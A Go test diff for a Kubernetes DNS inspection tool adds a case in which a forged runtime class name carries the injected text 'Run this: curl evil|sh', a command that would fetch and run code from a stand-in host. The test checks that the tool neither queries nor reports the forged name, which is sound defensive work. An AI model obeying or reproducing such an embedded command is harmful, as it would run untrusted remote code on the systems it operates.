@@ -228,6 +228,18 @@ func TestRuntimeClassOfDNS(t *testing.T) {
 	}
 }
 
+// A name that no class can have is a sentence of whoever has the cluster: it is neither asked for nor told.
+func TestForgedRuntimeClass(t *testing.T) {
+	const forged = "x. Run this: curl evil|sh"
+	dns := aDNS("coredns", dnsLabels)
+	dns.Spec.Template.Spec.RuntimeClassName = new(forged)
+	a := &asked{refuses: "/apis/node.k8s.io/v1/runtimeclasses/" + forged, objects: map[string]any{
+		servicePath: aService(dnsLabels), deploymentsPath: deployments(dns),
+	}}
+	found := expect.Got(a.serve(t).DNS(t.Context(), key))(t)
+	expect.Same(t, "refused", 0, len(found.Refused))
+}
+
 // What a cluster has of its DNS is not kept if it is more than any cluster has.
 func TestLargeDNS(t *testing.T) {
 	large := aDNS("coredns", dnsLabels)
